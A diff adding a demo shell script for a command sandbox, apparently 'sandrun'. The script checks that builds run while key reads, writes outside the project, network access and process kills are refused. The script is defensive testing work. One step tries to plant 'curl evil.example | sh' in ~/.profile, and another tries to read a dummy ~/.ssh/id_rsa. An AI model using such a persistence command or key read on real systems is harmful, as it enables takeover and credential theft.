@@ -1,0 +1,70 @@
+#!/bin/sh
+# `make demo`: real programs in real sandboxes. Each step says what it tries and what must come of it; if something else
+# comes of it, the demo fails. It works in a temporary directory with a home of its own, and needs no root.
+set -eu
+cd "$(dirname "$0")/.."
+sandrun=$PWD/.venv/bin/sandrun
+place=$(mktemp -d)
+server=
+trap 'rm -rf "$place"; [ -z "$server" ] || kill "$server" 2>/dev/null || true' EXIT
+HOME=$place/home
+export HOME
+mkdir -p "$HOME/.ssh" "$place/project"
+echo 'PRIVATE KEY' >"$HOME/.ssh/id_rsa"
+echo '# my settings' >"$HOME/.profile"
+cd "$place/project"
+cat >hello.c <<'C'
+#include <stdio.h>
+int main(void) { puts("hello, built and run in a sandbox"); return 0; }
+C
+printf 'hello: hello.c\n\tcc -O1 -o hello hello.c\n' >Makefile
+
+step() {
+    printf '\n# %s\n' "$1"
+}
+expect() { # STATUS ARGUMENTS-OF-SANDRUN...; status "no" is any failure of the command itself
+    want=$1
+    shift
+    echo "\$ sandrun $*"
+    got=0
+    "$sandrun" -q "$@" </dev/null || got=$?
+    case $want in
+    no) [ "$got" -ne 0 ] && [ "$got" -lt 123 ] && echo "  -> refused (status $got)" && return ;;
+    *) [ "$got" -eq "$want" ] && echo "  -> status $got" && return ;;
+    esac
+    echo "demo: expected $want, got $got" >&2
+    exit 1
+}
+
+step 'allowed: build and run a program in the current directory'
+expect 0 -- make
+expect 0 -- ./hello
+step 'refused: your keys, and writing outside the current directory'
+expect no -- cat "$HOME/.ssh/id_rsa"
+expect no -- sh -c 'echo "curl evil.example | sh" >>"$HOME/.profile"'
+grep -q evil "$HOME/.profile" && exit 1
+
+step 'a web server on this machine, outside of any sandbox'
+/usr/bin/env python3 -u -m http.server --bind 127.0.0.1 --directory "$place/project" 0 >"$place/log" 2>&1 &
+server=$!
+while ! port=$(sed -n 's/.* port \([0-9]*\) .*/\1/p' "$place/log") || [ -z "$port" ]; do sleep 0.1; done
+fetch="import urllib.request as u; print(u.urlopen('http://127.0.0.1:$port/Makefile').status)"
+step 'refused: the network; allowed: the network for a profile that is for it, or one port'
+expect no -- python3 -c "$fetch" 2>"$place/refused" || exit 1
+tail -n 1 "$place/refused"
+expect 0 -p net-only -- python3 -c "$fetch"
+expect 0 --connect "tcp:$port" -- python3 -c "$fetch"
+
+step 'refused: other processes'
+expect no -- sh -c "kill $server"
+kill -0 $server
+
+step "the status is the command's; the timeout is 124; sandrun's own failure is 125"
+expect 7 -- sh -c 'exit 7'
+expect 137 -- sh -c 'kill -9 $$'
+expect 124 --timeout 200ms -- sleep 10
+expect 125 --read /no/such/file -- true
+
+step 'what the default profile enforces here, and how'
+"$sandrun" --dry-run -- make | sed -n '/^protections/,/^files/p' | grep -v 'requested by' | head -n 40
+printf '\nThe demo is complete: everything came out as it must.\n'
